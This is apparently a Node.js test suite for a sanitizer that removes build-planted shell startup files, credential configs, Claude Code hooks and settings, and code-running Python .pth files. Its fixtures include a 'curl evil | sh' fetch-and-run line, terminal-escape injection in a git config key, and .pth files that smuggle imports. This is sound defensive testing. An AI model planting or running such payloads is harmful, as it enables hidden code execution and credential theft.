// What a build left in the home, beside the checkout and in it for shells, tools and Claude Code to run.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { test } from 'node:test';

import { homeFolders, IDENTITY, put, SECRETS } from './hostile.mjs';
import { consistent, prebuild, SCRIPT, sync } from './prebuild.mjs';
import { run, textOf } from './support.mjs';

const OWN_LINE = 'export PATH="$HOME/.harvest/bin:$PATH"';
const GONE = [
  '.config/git/config', '.git-credentials', '.netrc', '.ssh/config', '.ssh/authorized_keys', '.gnupg/gpg.conf', '.config/gh/hosts.yml',
  '.local/share/gh/extensions/gh-x/gh-x', '.curlrc', '.config/curlrc', '.wgetrc', '.docker/config.json', '.claude/settings.json', '.claude/CLAUDE.md',
  '.claude.json', '.profile', '.bash_profile', '.bash_login', '.bash_logout', '.bashrc', '.bash_aliases', '.inputrc', '.zshenv', '.zprofile', '.zshrc',
  '.zlogin', '.config/fish/config.fish', '.config/anthropic/active_config', '.config/pip/pip.conf', '.config/environment.d/x.conf', '.config/other/x', '.npmrc',
  '.npm-global/etc/npmrc', '.yarnrc.yml', '.bunfig.toml', '.pam_environment', '.tmux.conf', '.screenrc', '.vimrc', '.vim/plugin/x.vim', '.lesskey', '.sqliterc',
  '.psqlrc', '.pypirc', '.pydistutils.cfg', '.bash_completion', '.local/share/bash-completion/completions/git', '.kshrc', '.gdbinit', '.aws/config',
  '.kube/config', '.pki/nssdb/cert9.db', '.node_modules/bufferutil/index.js', '.node_libraries/x.js', '.cargo/config.toml', '.pip/pip.conf',
  '.local/lib/python3.13/site-packages/usercustomize.py', '.local/lib/python3.13/site-packages/x.start', '.anything-new',
];
const STAYS = [
  '.cache/x', '.npm/_cacache/x', '.harvest/toolchains/node/x', '.cargo/env', '.cargo/registry/x', '.npm-global/lib/node_modules/x/index.js', 'notes.txt',
  '.local/lib/python3.13/site-packages/requests/api.py', '.local/share/pnpm/store/x',
];

async function ended(t, made, options) {
  const end = await sync(t, made, { env: { ...SECRETS, ...IDENTITY }, ...options });
  assert.equal(end.code, 0, end.stderr);
  consistent(made, end);
  return end;
}

test('what steers shells, git, its helpers and Claude Code is gone after the first run, and what else a build made stays', async (t) => {
  const made = prebuild(t);
  for (const name of [...GONE, ...STAYS]) put(made.at(`home/${name}`), 'planted\n', 0o755);
  const { report } = await ended(t, made);
  for (const name of GONE) assert.equal(fs.existsSync(made.at(`home/${name}`)), false, name);
  for (const name of STAYS) assert.equal(textOf(made.at(`home/${name}`)), 'planted\n', name);
  assert.ok(report.warnings.some((text) => /left by the prebuild's build.*\.netrc/.test(text)), JSON.stringify(report.warnings));
  assert.doesNotMatch(textOf(made.at('home/.gitconfig')), /planted/);
});

test('what a session has put there itself stays in later runs', async (t) => {
  const made = prebuild(t);
  await ended(t, made);
  for (const name of [...GONE, 'settings']) put(made.at(`home/${name}`), 'mine\n');
  put(path.join(made.app, '.claude/settings.local.json'), '{}');
  made.git('workspace/app', 'config', '--global', 'core.editor', 'vi');
  await ended(t, made);
  for (const name of GONE) assert.equal(textOf(made.at(`home/${name}`)), 'mine\n', name);
  assert.equal(made.file('.claude/settings.local.json'), '{}');
  assert.equal(made.git('workspace/app', 'config', '--global', 'core.editor'), 'vi');
});

test('a start file that is root\'s example, or has nothing but the worker\'s line, stays as it is', async (t) => {
  const example = textOf('/etc/skel/.profile') ?? '';
  const rows = [
    [`\n${OWN_LINE}\n`, `\n${OWN_LINE}\n`], [`${OWN_LINE}\ncurl evil | sh\n`, `${OWN_LINE}\n`],
    ...(example ? [[example, example], [`${example}\n${OWN_LINE}\n`, `${example}\n${OWN_LINE}\n`], [`${example}evil\n${OWN_LINE}\n`, `${example.trimEnd()}\n\n${OWN_LINE}\n`]] : []),
  ];
  for (const [text, expected] of rows) {
    const made = prebuild(t);
    put(made.at('home/.profile'), text);
    await ended(t, made);
    assert.equal(textOf(made.at('home/.profile')), expected);
  }
});

test('links that a build left are removed, and what they lead to is left alone', async (t) => {
  const made = prebuild(t);
  const away = made.at('away');
  for (const name of ['git/config', 'gh/hosts.yml', 'bin/git', 'file']) put(path.join(away, name), 'somebody else\'s\n', 0o755);
  const links = { '.config': away, '.ssh': away, '.bashrc': path.join(away, 'file'), '.gitconfig': path.join(away, 'git/config'), '.local/bin': path.join(away, 'bin') };
  for (const [name, target] of Object.entries(links)) {
    fs.mkdirSync(path.dirname(made.at(`home/${name}`)), { recursive: true });
    fs.symlinkSync(target, made.at(`home/${name}`));
  }
  await ended(t, made);
  for (const name of ['git/config', 'gh/hosts.yml', 'bin/git', 'file']) assert.equal(textOf(path.join(away, name)), 'somebody else\'s\n', name);
  for (const name of Object.keys(links)) {
    assert.equal(fs.lstatSync(made.at(`home/${name}`), { throwIfNoEntry: false })?.isSymbolicLink() ?? false, false, name);
  }
});

test('what the runtime has mounted is not taken for a build\'s', async (t) => {
  const made = prebuild(t);
  for (const name of ['volume/projects/x', 'deep/x']) put(made.at(name), 'of the runtime\n');
  for (const name of ['.claude', '.ssh/keys', '.config/gh']) fs.mkdirSync(made.at(`home/${name}`), { recursive: true });
  const mounts = [['volume', '.claude'], ['deep', '.ssh/keys']].flatMap(([from, to]) => ['--bind', made.at(from), made.at(`home/${to}`)]);
  const program = [process.execPath, SCRIPT, '--json', '--workspace', made.workspace];
  const { code, stderr } = await run(t, 'bwrap', ['--dev-bind', '/', '/', ...mounts, '--', ...program], { env: { ...made.env, ...IDENTITY } });
  assert.equal(code, 0, stderr);
  assert.deepEqual(['volume/projects/x', 'deep/x'].map((name) => textOf(made.at(name))), ['of the runtime\n', 'of the runtime\n']);
  assert.equal(fs.existsSync(made.at('home/.config/gh')), false);
});

test('what a build named so that it would steer a terminal is printed as what it is', async (t) => {
  const made = prebuild(t);
  made.git('workspace/app', 'config', 'url.\u001b]0;evil\u0007\u202e.insteadOf', 'x');
  const { stderr } = await ended(t, made);
  assert.match(stderr, /url\.\\u001b]0;evil\\u0007\\u202e\.insteadof/);
  assert.doesNotMatch(stderr, /[\u001b\u0007\u202e]/);
});

test('what the base had, by the digests in the manifest, stays in a build\'s home, and nothing else of that name', async (t) => {
  const had = { '.npmrc': 'registry=https://mirror.example/\n', '.config/pip/pip.conf': '[global]\n', '.bashrc': 'alias ll="ls -l"\n', '.zshrc': 'own\n' };
  const home = Object.fromEntries(Object.entries(had).map(([name, text]) => [name, createHash('sha256').update(text).digest('hex')]));
  const made = prebuild(t, undefined, { facts: { home } });
  for (const [name, text] of Object.entries(had)) put(made.at(`home/${name}`), text);
  for (const name of ['.config/pip/other', '.config/git/config']) put(made.at(`home/${name}`), 'planted\n');
  put(made.at('home/.zshrc'), 'planted\n');
  await ended(t, made);
  for (const name of ['.npmrc', '.config/pip/pip.conf', '.bashrc']) assert.equal(textOf(made.at(`home/${name}`)), had[name], name);
  for (const name of ['.config/pip/other', '.config/git', '.zshrc']) assert.equal(fs.existsSync(made.at(`home/${name}`)), false, name);
});

test('folders that are nested deeper than a path can be long are removed', async (t) => {
  const made = prebuild(t);
  const deep = 'd=$(printf "%0200d" 0); mkdir .ssh && cd .ssh && for i in $(seq 40); do mkdir $d && cd $d; done; echo x >x; chmod 000 .';
  const { code, stderr } = await run(t, '/bin/bash', ['-c', deep], { cwd: made.at('home'), env: made.env });
  assert.equal(code, 0, stderr);
  await ended(t, made);
  assert.equal(fs.existsSync(made.at('home/.ssh')), false);
});

test('what a build left for Claude Code, Node and git in the folder for temporary files is gone, and what is others\' stays', async (t) => {
  const made = prebuild(t);
  const TMPDIR = made.at('temporary');
  const gone = ['claude-1001/bash-edit-diff/x/config', 'node-compile-cache/x', 'v8-compile-cache-1001/x', 'node_modules/x/index.js', 'package.json', '.git/config', 'CLAUDE.md'];
  for (const name of [...gone, 'harvest-session-x/request.json']) put(path.join(TMPDIR, name), 'x');
  await ended(t, made, { env: { ...SECRETS, ...IDENTITY, TMPDIR } });
  assert.deepEqual(fs.readdirSync(TMPDIR), ['harvest-session-x']);
});

test('what cannot be read or waited for is removed as well', async (t) => {
  const made = prebuild(t);
  const { execFileSync } = await import('node:child_process');
  for (const name of ['.gitconfig', '.bashrc', '.netrc']) execFileSync('mkfifo', [made.at(`home/${name}`)]);
  put(made.at('home/.ssh/deep/config'), 'x');
  fs.chmodSync(made.at('home/.ssh/deep'), 0o000);
  await ended(t, made);
  assert.deepEqual(fs.readdirSync(made.at('home')).sort(), ['.gitconfig']);
  assert.ok(fs.lstatSync(made.at('home/.gitconfig')).isFile());
});

test('what Claude Code would run in the checkout is as the repository has it', async (t) => {
  const own = '{"model":"x"}\n';
  const made = prebuild(t, { 'a.txt': 'one\n', '.gitignore': '.claude/settings.local.json\n', '.claude/settings.json': own, '.claude/hooks/own.sh': 'own\n', '.claude/notes.md': 'one\n', 'CLAUDE.md': 'one\n' });
  const early = new Date(0);
  const plant = (name, text) => (put(path.join(made.app, name), text), fs.utimesSync(path.join(made.app, name), early, early));
  plant('.claude/settings.json', '{"hooks":{}}\n');
  plant('.claude/hooks/own.sh', 'evil\n');
  plant('.claude/settings.local.json', '{"hooks":{}}\n');
  plant('.mcp.json', '{"mcpServers":{}}\n');
  for (const name of ['.claude/commands/made.md', '.claude/agents/made.md', 'CLAUDE.local.md', 'AGENTS.md', '.lfsconfig']) plant(name, 'made by the build\n');
  plant('CLAUDE.md', 'evil\n');
  for (const name of ['.claude/settings.json', '.mcp.json', 'CLAUDE.md', 'AGENTS.md']) put(path.join(made.workspace, name), 'evil\n');
  const { report } = await ended(t, made);
  assert.deepEqual(['.claude/settings.json', '.claude/hooks/own.sh', '.claude/notes.md', 'CLAUDE.md'].map(made.file), [own, 'own\n', 'one\n', 'one\n']);
  for (const name of ['.claude/settings.local.json', '.mcp.json', '.claude/commands', '.claude/agents', 'CLAUDE.local.md', 'AGENTS.md', '.lfsconfig']) {
    assert.equal(fs.existsSync(path.join(made.app, name)), false, name);
  }
  assert.deepEqual(fs.readdirSync(made.workspace).sort(), ['.harvest', 'app']);
  assert.equal(made.git('workspace/app', 'status', '--porcelain'), '');
  assert.ok(report.warnings.some((text) => text.includes('.mcp.json')), JSON.stringify(report.warnings));

  const without = prebuild(t);
  fs.symlinkSync(made.at('away'), path.join(without.app, '.claude'));
  put(made.at('away/settings.json'), '{"hooks":{}}\n');
  await ended(t, without);
  assert.equal(fs.existsSync(path.join(without.app, '.claude')), false);
});

test('a prebuild with nothing of the kind is left as it is, and nothing is said', async (t) => {
  const made = prebuild(t, { 'a.txt': 'one\n', '.claude/settings.json': '{}' });
  for (const name of ['node', 'npm', 'npx', 'pnpm']) put(path.join(homeFolders(made)[0], name), '#!/bin/sh\n', 0o755);
  put(path.join(homeFolders(made)[1], 'turbo'), '#!/bin/sh\n', 0o755);
  const { report } = await ended(t, made);
  assert.deepEqual(report.warnings, []);
  assert.deepEqual(homeFolders(made).slice(0, 2).map((folder) => fs.readdirSync(folder).sort()), [['node', 'npm', 'npx', 'pnpm'], ['turbo']]);
});

test('of `.pth` files those stay that only add folders, as `pip install --editable` leaves them', async (t) => {
  const made = prebuild(t, { 'src/x.py': 'one\n' });
  const at = (name) => made.at(`home/.local/lib/python3.13/site-packages/${name}`);
  put(made.at('custom/usercustomize.py'), 'x');
  put(made.at('package/sitecustomize/__init__.py'), 'x');
  put(made.at('archive.zip'), 'x');
  const stays = {
    '__editable__.app-0.1.0.pth': `${made.app}/src\n`, '_app.pth': `${made.app}`, 'easy-install.pth': `# comment\n\n./app.egg\n/importer\n${made.app}/src\r\n`,
    'later.pth': `${made.at('not-there')}\n`,
  };
  const goes = {
    '__editable__.other-0.1.0.pth': 'import __editable___other_finder; __editable___other_finder.install()\n', 'tab.pth': `${made.app}\nimport\tos\n`,
    '.hidden.pth': 'import os\n', '.pth': 'import os\n', 'marked.pth': '\ufeffimport os\n', 'feed.pth': `${made.app}\fimport os\n`, 'next.pth': `x\u0085import os\n`, 'old.pth': 'x\rimport os\n',
    'long.pth': `${made.app}\n`.repeat(10_000), 'custom.pth': `${made.at('custom')}\n`, 'package.pth': `${made.at('package')}\n`, 'relative.pth': '../../../../../custom  \n',
    'archive.pth': `${made.at('archive.zip')}\n`, 'zero.pth': 'x\0y\n', 'app.start': 'app.main:run\n',
    'sitecustomize.py': 'x', 'usercustomize.cpython-313-x86_64-linux-gnu.so': 'x', 'usercustomize/__init__.py': 'x',
  };
  for (const [name, text] of Object.entries({ ...stays, ...goes })) put(at(name), text);
  fs.symlinkSync(at('_app.pth'), at('link.pth'));
  fs.mkdirSync(at('folder.pth'));
  const { execFileSync } = await import('node:child_process');
  execFileSync('mkfifo', [at('pipe.pth')]);
  await ended(t, made);
  assert.deepEqual(fs.readdirSync(path.dirname(at('x'))).sort(), Object.keys(stays).sort());
  for (const [name, text] of Object.entries(stays)) assert.equal(textOf(at(name)), text, name);
});

test('a `.pth` file whose folder gets what Python runs at its start by a later commit goes', async (t) => {
  const made = prebuild(t, { 'src/x.py': 'one\n' });
  const file = made.at('home/.local/lib/python3.13/site-packages/x.pth');
  put(file, `${made.app}/src\n`);
  made.push({ 'src/usercustomize.py': 'evil\n' });
  const { report } = await ended(t, made);
  assert.deepEqual([report.reason, fs.existsSync(file)], ['moved', false]);
});

test('a checkout with the name of a file that is removed beside checkouts stays', async (t) => {
  for (const name of ['AGENTS.md', 'CLAUDE.md', '.mcp.json', '.claude']) {
    const made = prebuild(t);
    fs.renameSync(made.app, made.at(`workspace/${name}`));
    made.app = made.at(`workspace/${name}`);
    put(made.at('workspace/CLAUDE.local.md'), 'evil\n');
    made.states({});
    const { code, report, stderr } = await sync(t, made, { env: { ...SECRETS, ...IDENTITY } });
    assert.deepEqual([code, report.reason, made.file('a.txt')], [0, 'up-to-date', 'one\n'], stderr);
    assert.deepEqual(fs.readdirSync(made.workspace).sort(), ['.harvest', name].sort());
  }
});
